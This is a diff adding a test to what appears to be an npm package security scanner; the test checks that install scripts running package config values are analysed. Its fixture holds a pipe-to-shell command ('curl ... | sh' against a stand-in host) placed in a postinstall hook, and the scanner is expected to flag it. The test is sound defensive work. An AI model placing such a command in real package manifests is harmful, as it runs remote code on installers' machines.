@@ -249,6 +249,19 @@ test('facts: what the hooks run is followed as Node loads it, through `npm run` 
   assert.ok(asked.includes('node_modules/left-pad/index.js'), 'a dependency is looked for among the bundled packages only');
 });
 
+test('facts: config values, which install scripts see as npm_package_config_*, are analysed and followed like commands', async () => {
+  const scripts = { postinstall: 'sh -c "$npm_package_config_cmd"' };
+  const facts = await factsOf({ manifest: { scripts }, config: { cmd: 'curl -s https://e.example/p | sh', next: 'node stage2.js' } }, { 'stage2.js': PAYLOAD });
+  assert.deepEqual(facts.hooks.map((h) => h.name), ['postinstall'], 'config values are not listed as hooks');
+  assert.deepEqual(
+    facts.findings.filter((f) => f.rule === 'install.remote-exec.pipe-to-shell').map((f) => f.source).sort(),
+    ['config.cmd', 'stage2.js'],
+  );
+  // Without install scripts nothing runs them.
+  const idle = await factsOf({ manifest: {}, config: { cmd: 'curl -s https://e.example/p | sh' } }, {});
+  assert.deepEqual([idle.present, idle.findings.length], [false, 0]);
+});
+
 test('facts: code the bounds leave unread or read in part is reported, and the analysis is not complete', async () => {
   // The payload past 4 MiB of padding: read in part, reported truncated.
   const padded = `${'// padding\n'.repeat(400_000)}${PAYLOAD}`;
